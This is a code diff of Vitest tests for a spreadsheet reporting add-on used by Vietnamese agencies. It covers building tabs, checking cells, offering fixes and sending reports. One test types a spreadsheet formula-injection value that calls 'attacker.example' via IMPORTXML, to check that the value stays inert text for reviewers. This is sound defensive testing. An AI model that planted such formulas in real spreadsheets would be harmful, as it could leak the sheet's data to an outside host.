@@ -1,13 +1,17 @@
 // The bundle that is pushed, on the fake spreadsheet, against the real worker.
+
 import { afterAll, beforeAll, describe, expect, test } from "vitest";
 import type { Answer } from "../../addon/contract.ts";
 import { TONES } from "../../addon/look.ts";
-import { formOf, goodCells } from "../shared/golden.ts";
+import type { Form, LastValue } from "../../shared/report/form.ts";
+import type { Mend } from "../../shared/report/mends.ts";
+import type { TableId } from "../../shared/report/report.ts";
+import { formOf, goodReport } from "../shared/golden.ts";
 import { type Desk, type Office, openOffice } from "./office.ts";
-import { readSheet, type SheetReader } from "./sheet-reader.ts";
+import { readSheet, readTables, type SheetReader, TABS, typeReport } from "./sheet-reader.ts";
 
 const PERIOD = "kh-6134-2021";
-const TAB = "Nhiệm vụ – Năm 2021";
+const TAB = TABS.duties;
 const FINANCE = "bao-cao-so-tai-chinh";
 const REVIEWER = "tong-hop-1";
 
@@ -54,13 +58,20 @@ function textsIn(desk: Desk, name: string): string[] {
   return texts.sort();
 }
 
-/** Types a good answer into every row that is asked for. */
-function fillIn(sheet: SheetReader, agency: string): void {
-  for (const row of formOf(agency).tables.duties.rows) {
-    for (const [column, text] of Object.entries(goodCells(row))) {
-      sheet.type(row.key, column as "status", String(text));
-    }
-  }
+/** Types a good answer into every row of every table. */
+function fillIn(desk: Desk, agency: string): void {
+  typeReport(desk, goodReport(formOf(agency)));
+}
+
+/** The keys of the duties table, rows for the agency's own work last. */
+function dutyKeys({ tables }: Form): string[] {
+  return [...tables.duties.rows.map(({ key }) => key), ...tables.duties.own];
+}
+
+/** Deletes a table's tab as a person does, who then looks at another. */
+function removeTab(desk: Desk, table: TableId): void {
+  value(desk.addon.jumpTo({ table: table === "duties" ? "assessment" : "duties" }));
+  desk.fake.spreadsheet.remove(tabOf(desk, TABS[table]));
 }
 
 async function withSheet(personId: string): Promise<{ desk: Desk; sheet: SheetReader }> {
@@ -92,7 +103,7 @@ describe("building", () => {
   test("the sheet has exactly the agency's rows, by key, and every cell to be filled is text with its choices", async () => {
     const { desk, sheet } = await withSheet(FINANCE);
     const form = formOf("so-tai-chinh");
-    expect(sheet.keys()).toEqual(form.tables.duties.rows.map(({ key }) => key));
+    expect(sheet.keys()).toEqual(dutyKeys(form));
     const tab = desk.fake.spreadsheet.sheets().find((each) => each.name() === TAB);
     const at = (column: "status" | "evidence") => tab?.cell(sheet.rowOf("II.4.c"), sheet.columnOf(column));
     expect(at("status")?.rule?.values).toEqual([
@@ -138,11 +149,13 @@ describe("building", () => {
     expect(rebuilt.text("II.4.c", "result")).toBe("Đã rà soát");
     expect(rebuilt.keys()).toEqual(sheet.keys());
     const removed = desk.fake.spreadsheet.sheets().find((each) => each.name() === "Đã gỡ");
-    const texts = [1, 2, 3, 4].flatMap((row) =>
-      [1, 2, 3, 4].map((column) => removed?.content({ row, column }).value),
-    );
-    expect(texts).toContain("Nội dung lạc dòng");
-    expect(texts).toContain("10/12/2021");
+    expect([1, 2, 3, 4, 5].map((column) => removed?.content({ row: 4, column }).value ?? null)).toEqual([
+      "10/12/2021",
+      "Nhiệm vụ",
+      null,
+      "Kết quả thực hiện / lý do không phát sinh",
+      "Nội dung lạc dòng",
+    ]);
   });
 
   const DAMAGES: [string, (desk: Desk, sheet: SheetReader) => void][] = [
@@ -166,9 +179,7 @@ describe("building", () => {
     ]);
     expect(textsIn(desk, `${TAB} (bản cũ)`)).toEqual(before);
     expect(before).toContain("Nội dung quý");
-    expect(readSheet(desk, TAB).keys()).toEqual(
-      formOf("so-tai-chinh").tables.duties.rows.map(({ key }) => key),
-    );
+    expect(readSheet(desk, TAB).keys()).toEqual(dutyKeys(formOf("so-tai-chinh")));
   });
 
   test("where the kept form is damaged or gone, building again keeps what was typed", async () => {
@@ -230,12 +241,13 @@ describe("building", () => {
 describe("checking", () => {
   test("flags the cell, its row and the list; a mended cell loses its flag", async () => {
     const { desk, sheet } = await withSheet(FINANCE);
-    fillIn(sheet, "so-tai-chinh");
+    fillIn(desk, "so-tai-chinh");
     sheet.type("II.4.c", "evidence", "");
     const broken = value(desk.addon.checkSheet());
     expect([broken.errors, broken.warnings]).toEqual([1, 0]);
     expect(broken.groups).toEqual([
       {
+        table: "duties",
         row: "II.4.c",
         duty: "II.4.c",
         title: expect.stringMatching(/^Rà soát, tham mưu/),
@@ -248,6 +260,8 @@ describe("checking", () => {
             message: "Chưa có văn bản minh chứng.",
             hint: expect.stringContaining("Kế hoạch số"),
             column: "Văn bản minh chứng (mỗi văn bản một dòng)",
+            mend: null,
+            exempted: null,
           },
         ],
       },
@@ -308,7 +322,7 @@ describe("checking", () => {
     const { desk, sheet } = await withSheet(FINANCE);
     value(desk.addon.checkSheet());
     tabOf(desk, TAB).insertColumns(sheet.columnOf("completed"), 1);
-    fillIn(sheet, "so-tai-chinh");
+    fillIn(desk, "so-tai-chinh");
     sheet.type("II.4.c", "evidence", "");
     value(desk.addon.checkSheet());
     expect(sheet.ground("II.4.c", "status")).toBe("#ffffff");
@@ -318,7 +332,7 @@ describe("checking", () => {
 
   test("a renamed column is told by its name, and nothing is checked or sent without it", async () => {
     const { desk, sheet } = await withSheet(FINANCE);
-    fillIn(sheet, "so-tai-chinh");
+    fillIn(desk, "so-tai-chinh");
     desk.fake.type(TAB, 4, sheet.columnOf("proposal"), "Kiến nghị");
     const before = desk.fake.requests.length;
     for (const answer of [desk.addon.checkSheet(), desk.addon.sendReport()]) {
@@ -340,6 +354,351 @@ describe("checking", () => {
   });
 });
 
+describe("three tables", () => {
+  test("an agency gets duties, figures and assessment in tabs of their own, every cell to be filled as text", async () => {
+    const { desk } = await withSheet(FINANCE);
+    const form = formOf("so-tai-chinh");
+    const { figures, assessment } = readTables(desk);
+    expect(figures.keys()).toEqual(form.tables.figures.rows.map(({ key }) => key));
+    expect(assessment.keys()).toEqual(form.tables.assessment.rows.map(({ key }) => key));
+    const cells = [
+      tabOf(desk, TABS.figures).cell(figures.rowOf("kinh-phi"), figures.columnOf("total")),
+      tabOf(desk, TABS.assessment).cell(assessment.rowOf("causes"), assessment.columnOf("text")),
+      tabOf(desk, TAB).cell(readSheet(desk, TAB).rowOf("own.1"), readSheet(desk, TAB).columnOf("duty")),
+    ];
+    for (const cell of cells) {
+      expect(cell.style).toMatchObject({
+        numberFormat: "@",
+        fontFamily: "Times New Roman",
+        fontSize: 12,
+        wrap: "WRAP",
+      });
+    }
+    const joint = figures.ground("pho-bien-cuoc", "coordinated");
+    expect([joint, figures.ground("bao-cao-vien", "coordinated")]).toEqual(["#ffffff", "#e8eaed"]);
+  });
+
+  test("an agency without figures gets no tab for them, and its report is checked without", async () => {
+    const { desk } = await withSheet("bao-cao-so-tai-chinh");
+    const own = formOf("so-tai-chinh");
+    const reply = {
+      ...own,
+      tables: { ...own.tables, figures: { ...own.tables.figures, rows: [], sums: [] } },
+    };
+    const bare = await office.sitDown(FINANCE);
+    bare.intercept((request, send) => {
+      const answer = send();
+      if (!request.url.includes("/form?")) return answer;
+      return { ...answer, body: JSON.stringify({ ...JSON.parse(answer.body), form: reply }) };
+    });
+    value(bare.addon.buildSheet(PERIOD));
+    const names = (of: Desk) => of.fake.spreadsheet.sheets().map((each) => each.name());
+    expect(names(bare)).not.toContain(TABS.figures);
+    expect(names(desk)).toContain(TABS.figures);
+    typeReport(bare, goodReport(reply));
+    const { errors, progress } = value(bare.addon.checkSheet());
+    expect([errors, progress.tables.map(({ table }) => table)]).toEqual([0, ["duties", "assessment"]]);
+  });
+
+  test("last period's values stand beside in the units that people type, with the period in the head", async () => {
+    const desk = await office.sitDown(FINANCE);
+    const lastValues = new Map<string, LastValue>([
+      ["bao-cao-vien", { value: 1250, periodName: "Năm 2020" }],
+      ["pho-bien-cuoc", "unknown"],
+      ["kinh-phi", { value: 1234500, periodName: "Năm 2020" }],
+    ]);
+    const form = formOf("so-tai-chinh", { lastValues });
+    desk.intercept((request, send) => {
+      const answer = send();
+      if (!request.url.includes("/form?")) return answer;
+      return { ...answer, body: JSON.stringify({ ...JSON.parse(answer.body), form }) };
+    });
+    value(desk.addon.buildSheet(PERIOD));
+    const sheet = readSheet(desk, TABS.figures, "figures");
+    const tab = tabOf(desk, TABS.figures);
+    const column = 5;
+    expect(tab.content({ row: 4, column }).value).toBe("Kỳ trước (Năm 2020)");
+    const shown = ["bao-cao-vien", "pho-bien-cuoc", "kinh-phi", "thi-cuoc"].map(
+      (key) => tab.content({ row: sheet.rowOf(key), column }).value,
+    );
+    expect(shown).toEqual(["1.250", "Không xác định", "1.234,5", "–"]);
+    // A head that changed with the form is still the add-on's own: the tab is not put aside for it.
+    sheet.type("bao-cao-vien", "total", "12");
+    desk.intercept(null);
+    expect(value(desk.addon.buildSheet(PERIOD)).notes).toEqual([]);
+    expect(readSheet(desk, TABS.figures, "figures").text("bao-cao-vien", "total")).toBe("12");
+    expect(tab.content({ row: 4, column }).value).toBe("Kỳ trước");
+  });
+
+  test("a fault in each table is flagged in its own tab, listed under its row, and jumped to", async () => {
+    const { desk } = await withSheet(FINANCE);
+    fillIn(desk, "so-tai-chinh");
+    const { duties, figures, assessment } = readTables(desk);
+    figures.type("bao-cao-vien", "total", "");
+    assessment.type("contact_phone", "text", "");
+    duties.type("own.1", "duty", "Tổ chức phiên tòa giả định");
+    const check = value(desk.addon.checkSheet());
+    const errors = check.groups
+      .map(({ items, ...group }) => ({
+        ...group,
+        items: items.filter(({ severity }) => severity === "error"),
+      }))
+      .filter(({ items }) => items.length > 0);
+    expect(errors.map(({ table, duty, section }) => [table, duty, section])).toEqual([
+      ["duties", "Khác 1", "Nhiệm vụ khác"],
+      ["figures", "1", "Số liệu"],
+      ["assessment", "Điện thoại liên hệ", "Đánh giá chung"],
+    ]);
+    expect(figures.ground("bao-cao-vien", "total")).toBe(TONES.bad.ground);
+    expect(assessment.ground("contact_phone", "text")).toBe(TONES.bad.ground);
+    expect(duties.ground("own.1", "status")).toBe(TONES.bad.ground);
+    expect(figures.text("pho-bien-cuoc", "check")).toBe("✓ Đủ thông tin");
+    for (const { items, table } of errors) {
+      const place = items[0]?.place ?? {};
+      value(desk.addon.jumpTo(place));
+      const sheet = { duties, figures, assessment }[table ?? "duties"];
+      expect(desk.fake.spreadsheet.selected).toEqual({
+        sheet: sheet.name,
+        rect: {
+          row: sheet.rowOf(place.row ?? ""),
+          column: sheet.columnOf(place.column ?? "key"),
+          rows: 1,
+          columns: 1,
+        },
+      });
+    }
+    const { progress } = check;
+    expect(progress.tables.map(({ table, missing, wrong }) => [table, missing, wrong])).toEqual([
+      ["duties", 0, 0],
+      ["figures", 1, 0],
+      ["assessment", 1, 0],
+    ]);
+  });
+
+  test.each(["duties", "figures", "assessment"] as const)(
+    "a deleted tab of %s is told by its name, and building brings it back and leaves the others",
+    async (gone) => {
+      const { desk } = await withSheet(FINANCE);
+      fillIn(desk, "so-tai-chinh");
+      const others = Object.values(TABS).filter((name) => name !== TABS[gone]);
+      const before = others.map((name) => textsIn(desk, name));
+      removeTab(desk, gone);
+      const answer = desk.addon.checkSheet();
+      expect(answer.ok ? null : [answer.problem.code, answer.problem.title]).toEqual([
+        "table_lost",
+        `Không tìm thấy trang tính “${TABS[gone].split(" – ")[0]}”`,
+      ]);
+      expect(problem(desk.addon.jumpTo({ table: gone, row: "x" }))).toBe("table_lost");
+      expect(value(desk.addon.buildSheet(PERIOD)).notes).toEqual([]);
+      expect(readTables(desk)[gone].keys().length).toBeGreaterThan(0);
+      expect(others.map((name) => textsIn(desk, name))).toEqual(before);
+      expect(problem(desk.addon.checkSheet())).toBe("none");
+    },
+  );
+
+  test("a deleted tab comes back with the cells that were sent last", async () => {
+    const desk = await office.sitDown("bao-cao-ubnd-ba-tri");
+    value(desk.addon.buildSheet(PERIOD));
+    const before = textsIn(desk, TABS.assessment);
+    removeTab(desk, "assessment");
+    value(desk.addon.buildSheet(PERIOD));
+    expect(textsIn(desk, TABS.assessment)).toEqual(before);
+    expect(before.join()).toContain("minh họa");
+  });
+
+  test.each(["figures", "assessment"] as const)(
+    "where the key column of %s was deleted, that tab alone stays whole beside its new one",
+    async (id) => {
+      const { desk } = await withSheet(FINANCE);
+      fillIn(desk, "so-tai-chinh");
+      tabOf(desk, TABS[id]).deleteColumns(1, 1);
+      const damaged = desk.addon.checkSheet();
+      expect(damaged.ok ? null : [damaged.problem.code, damaged.problem.title]).toEqual([
+        "table_lost",
+        `Không tìm thấy bảng “${TABS[id].split(" – ")[0]}”`,
+      ]);
+      const before = textsIn(desk, TABS[id]);
+      expect(value(desk.addon.buildSheet(PERIOD)).notes).toEqual([
+        `Trang tính cũ được giữ nguyên ở “${TABS[id]} (bản cũ)”.`,
+      ]);
+      expect(textsIn(desk, `${TABS[id]} (bản cũ)`)).toEqual(before);
+    },
+  );
+
+  test("sorted rows, rows between and a renamed tab change nothing of what is read, and flags go along", async () => {
+    const { desk } = await withSheet(FINANCE);
+    fillIn(desk, "so-tai-chinh");
+    const figures = readSheet(desk, TABS.figures, "figures");
+    figures.type("kinh-phi", "total", "");
+    const before = value(desk.addon.checkSheet());
+    const tab = tabOf(desk, TABS.figures);
+    const rows = figures.keys().map((key) => figures.rowOf(key));
+    const held = rows.map((row) =>
+      Array.from({ length: tab.columns() }, (_, at) => ({ ...tab.content({ row, column: at + 1 }) })),
+    );
+    held.reverse().forEach((cells, at) => {
+      tab.write(
+        cells.map((cell, column) => ({
+          value: cell.value,
+          formula: cell.formula,
+          row: rows[at] ?? 0,
+          column: column + 1,
+        })),
+      );
+    });
+    expect(figures.keys()).not.toEqual(formOf("so-tai-chinh").tables.figures.rows.map(({ key }) => key));
+    expect(value(desk.addon.checkSheet()).groups).toEqual(before.groups);
+    expect(figures.ground("kinh-phi", "total")).toBe(TONES.bad.ground);
+    tab.insertRows(6, 2);
+    tab.rename("Số của tôi");
+    expect(value(desk.addon.checkSheet()).groups).toEqual(before.groups);
+  });
+
+  test("the plan's own words are no typed text, even where a row lost its key; what a person wrote there is kept", async () => {
+    const { desk, sheet } = await withSheet(FINANCE);
+    fillIn(desk, "so-tai-chinh");
+    const row = sheet.rowOf("own.2");
+    sheet.type("own.2", "duty", "Việc của cơ quan");
+    desk.fake.type(TAB, row, sheet.columnOf("key"), "");
+    const lost = value(desk.addon.checkSheet()).groups.flatMap(({ items }) => items.map(({ rule }) => rule));
+    expect(lost).toContain("R-ROW-UNKNOWN");
+    value(desk.addon.buildSheet(PERIOD));
+    expect(textsIn(desk, "Đã gỡ")).toContain("Việc của cơ quan");
+    const other = readSheet(desk, TAB);
+    desk.fake.type(TAB, other.rowOf("own.2"), other.columnOf("key"), "");
+    expect(value(desk.addon.checkSheet()).groups.map(({ row }) => row)).not.toContain("");
+  });
+});
+
+describe("mends", () => {
+  /** The first mend that a check offers for a cell. */
+  function offered(desk: Desk, table: TableId, row: string): Mend {
+    const groups = value(desk.addon.checkSheet()).groups.filter(
+      (one) => one.table === table && one.row === row,
+    );
+    const mend = groups.flatMap(({ items }) => items.map((item) => item.mend)).find((one) => one !== null);
+    if (!mend) throw new Error(`no mend for ${table} ${row}: ${JSON.stringify(groups)}`);
+    return mend;
+  }
+
+  test("a mend is offered and not applied, is applied on request and undone to the very text", async () => {
+    const { desk, sheet } = await withSheet(FINANCE);
+    fillIn(desk, "so-tai-chinh");
+    const before = "Đã rà soát đầy đủ các văn bản của tỉnh".normalize("NFD");
+    sheet.type("II.4.c", "result", before);
+    const mend = offered(desk, "duties", "II.4.c");
+    expect(sheet.text("II.4.c", "result")).toBe(before);
+    expect(mend).toEqual({
+      table: "duties",
+      key: "II.4.c",
+      column: "result",
+      before,
+      after: before.normalize("NFC"),
+    });
+    const mended = value(desk.addon.applyMend(mend));
+    expect(sheet.text("II.4.c", "result")).toBe(before.normalize("NFC"));
+    expect(mended.groups.filter(({ row }) => row === "II.4.c")).toEqual([]);
+    expect(problem(desk.addon.applyMend(mend))).toBe("place_changed");
+    value(desk.addon.undoMend(mend));
+    expect(sheet.text("II.4.c", "result")).toBe(before);
+    expect(problem(desk.addon.undoMend(mend))).toBe("place_changed");
+  });
+
+  test("a date that the spreadsheet made is put in words and comes back as the date it was", async () => {
+    const { desk, sheet } = await withSheet(FINANCE);
+    const at = { row: sheet.rowOf("II.4.c"), column: sheet.columnOf("completed") };
+    tabOf(desk, TAB).restyle([{ ...at, style: { numberFormat: "dd/mm/yyyy" } }]);
+    tabOf(desk, TAB).write([{ ...at, value: 44505, formula: null }]);
+    const mend: Mend = {
+      table: "duties",
+      key: "II.4.c",
+      column: "completed",
+      before: { date: "2021-11-05" },
+      after: "05/11/2021",
+    };
+    value(desk.addon.applyMend(mend));
+    expect(tabOf(desk, TAB).content(at).value).toBe("05/11/2021");
+    value(desk.addon.undoMend(mend));
+    expect(tabOf(desk, TAB).content(at).value).toBe(44505);
+    expect(problem(desk.addon.applyMend({ ...mend, before: "2021-11-05" }))).toBe("place_changed");
+  });
+
+  test("a number that the spreadsheet holds comes back as the number it was", async () => {
+    const { desk } = await withSheet(FINANCE);
+    const sheet = readSheet(desk, TABS.figures, "figures");
+    const at = { row: sheet.rowOf("kinh-phi"), column: sheet.columnOf("total") };
+    tabOf(desk, TABS.figures).restyle([{ ...at, style: { numberFormat: "General" } }]);
+    tabOf(desk, TABS.figures).write([{ ...at, value: 1.5, formula: null }]);
+    const mend: Mend = { table: "figures", key: "kinh-phi", column: "total", before: 1.5, after: "1,5" };
+    value(desk.addon.applyMend(mend));
+    expect(sheet.text("kinh-phi", "total")).toBe("1,5");
+    value(desk.addon.undoMend(mend));
+    expect(tabOf(desk, TABS.figures).content(at).value).toBe(1.5);
+  });
+
+  test("a cell that somebody changed since is left as it is", async () => {
+    const { desk, sheet } = await withSheet(FINANCE);
+    fillIn(desk, "so-tai-chinh");
+    sheet.type("II.4.c", "result", "Đã rà soát".normalize("NFD"));
+    const mend = offered(desk, "duties", "II.4.c");
+    sheet.type("II.4.c", "result", "Nội dung của đồng nghiệp");
+    expect(problem(desk.addon.applyMend(mend))).toBe("place_changed");
+    expect(problem(desk.addon.undoMend(mend))).toBe("place_changed");
+    expect(sheet.text("II.4.c", "result")).toBe("Nội dung của đồng nghiệp");
+  });
+
+  test("a mend finds its row wherever it moved, and no mend touches a doubled row, a lost one or the form's words", async () => {
+    const { desk, sheet } = await withSheet(FINANCE);
+    fillIn(desk, "so-tai-chinh");
+    sheet.type("II.4.c", "result", "a");
+    const mend: Mend = { table: "duties", key: "II.4.c", column: "result", before: "a", after: "=1+1" };
+    tabOf(desk, TAB).insertRows(5, 3);
+    value(desk.addon.applyMend(mend));
+    const tab = tabOf(desk, TAB);
+    const at = (key: string) => {
+      for (let row = 5; row < 80; row++) if (tab.content({ row, column: 1 }).value === key) return row;
+      return 0;
+    };
+    expect(held(desk, TAB, at("II.4.c"), sheet.columnOf("result"))).toEqual(["=1+1", null]);
+    const refused: Mend[] = [
+      { ...mend, before: "=1+1", key: "II.0" },
+      { ...mend, before: "", key: "" },
+      { ...mend, table: "figures", before: "=1+1" },
+    ];
+    expect(refused.map((one) => problem(desk.addon.applyMend(one)))).toEqual([
+      "place_changed",
+      "place_changed",
+      "place_changed",
+    ]);
+    desk.fake.type(TAB, at("II.9.a"), 1, "II.4.c");
+    expect(problem(desk.addon.applyMend({ ...mend, before: "=1+1", after: "b" }))).toBe("place_changed");
+  });
+});
+
+test("a finding that Sở Tư pháp exempted says so in the list and in the cell, and does not block", async () => {
+  const desk = await office.sitDown(FINANCE);
+  const exemption = { rule: "R-EVIDENCE-MISSING", reason: "Văn bản mật", from: "2021-01-01", to: null };
+  const form = formOf("so-tai-chinh", { exemptions: [exemption] });
+  desk.intercept((request, send) => {
+    const answer = send();
+    if (!request.url.includes("/form?")) return answer;
+    return { ...answer, body: JSON.stringify({ ...JSON.parse(answer.body), form }) };
+  });
+  value(desk.addon.buildSheet(PERIOD));
+  typeReport(desk, goodReport(form));
+  const sheet = readSheet(desk, TAB);
+  sheet.type("II.4.c", "evidence", "");
+  const check = value(desk.addon.checkSheet());
+  const [item] = check.groups.flatMap(({ items }) => items).filter(({ rule }) => rule === exemption.rule);
+  expect([check.errors, item?.severity, item?.exempted]).toEqual([
+    0,
+    "info",
+    { reason: "Văn bản mật", to: null },
+  ]);
+  expect(sheet.note("II.4.c", "evidence")).toContain("Đã được Sở Tư pháp miễn: Văn bản mật");
+  expect(sheet.text("II.4.c", "check")).toContain("Đã được Sở Tư pháp miễn: Văn bản mật");
+});
+
 describe("sending", () => {
   test("with errors nothing leaves the sheet", async () => {
     const { desk } = await withSheet(FINANCE);
@@ -350,7 +709,7 @@ describe("sending", () => {
 
   test("a lost answer is asked for again under the same key, and nothing is sent twice; then review and pull", async () => {
     const { desk, sheet } = await withSheet("bao-cao-hoi-nong-dan");
-    fillIn(sheet, "hoi-nong-dan-tinh");
+    fillIn(desk, "hoi-nong-dan-tinh");
     sheet.type("II.9.a", "difficulty", '=IMPORTXML("https://attacker.example";"//a")');
     expect(value(desk.addon.home()).sheet?.head?.latest).toBe(0);
     desk.intercept((_, send) => {
@@ -370,8 +729,20 @@ describe("sending", () => {
     const line = value(review.addon.listReports(PERIOD)).reports.find((each) => each.agency.id === agency);
     expect(line).toMatchObject({ expected: true, late: false, head: { state: "sent", latest: 1 } });
     const opened = value(review.addon.openReport(PERIOD, agency));
-    expect([opened.tab, opened.version.version, opened.groups]).toEqual(["Xem – Hội Nông dân tỉnh", 1, []]);
-    expect(readSheet(review, opened.tab).text("II.9.a", "difficulty")).toBe(
+    expect([opened.tabs, opened.version.version, opened.groups]).toEqual([
+      [
+        "Xem – Hội Nông dân tỉnh",
+        "Xem – Hội Nông dân tỉnh (số liệu)",
+        "Xem – Hội Nông dân tỉnh (đánh giá chung)",
+      ],
+      1,
+      [],
+    ]);
+    expect(readSheet(review, opened.tabs[1] ?? "", "figures").text("pho-bien-cuoc", "coordinated")).toBe("5");
+    expect(readSheet(review, opened.tabs[2] ?? "", "assessment").text("shortcomings", "text")).toBe(
+      "Không có",
+    );
+    expect(readSheet(review, opened.tabs[0] ?? "").text("II.9.a", "difficulty")).toBe(
       '=IMPORTXML("https://attacker.example";"//a")',
     );
     const started = value(review.addon.startReview(PERIOD, agency, 1, opened.head.rev));
@@ -401,7 +772,8 @@ describe("sending", () => {
     ]);
 
     value(review.addon.pullProvince(PERIOD));
-    expect(review.fake.spreadsheet.sheets()).toHaveLength(7);
+    value(review.addon.openReport(PERIOD, "ubnd-ba-tri"));
+    expect(review.fake.spreadsheet.sheets()).toHaveLength(9);
   });
 
   test("a returned report says why, takes the mended text and is sent as the next version", async () => {
@@ -423,7 +795,8 @@ describe("sending", () => {
     expect(value(other.addon.buildSheet(PERIOD)).notes).toEqual([
       "Có 1 ô khác với bản đã gửi gần nhất, xem trang tính “Khác bản đã gửi”.",
     ]);
-    expect([1, 2, 3, 4].map((column) => held(other, "Khác bản đã gửi", 4, column)[0])).toEqual([
+    expect([1, 2, 3, 4, 5].map((column) => held(other, "Khác bản đã gửi", 4, column)[0])).toEqual([
+      "Nhiệm vụ",
       "II.3.a.1",
       "Kết quả thực hiện / lý do không phát sinh",
       "Bản của đồng nghiệp",
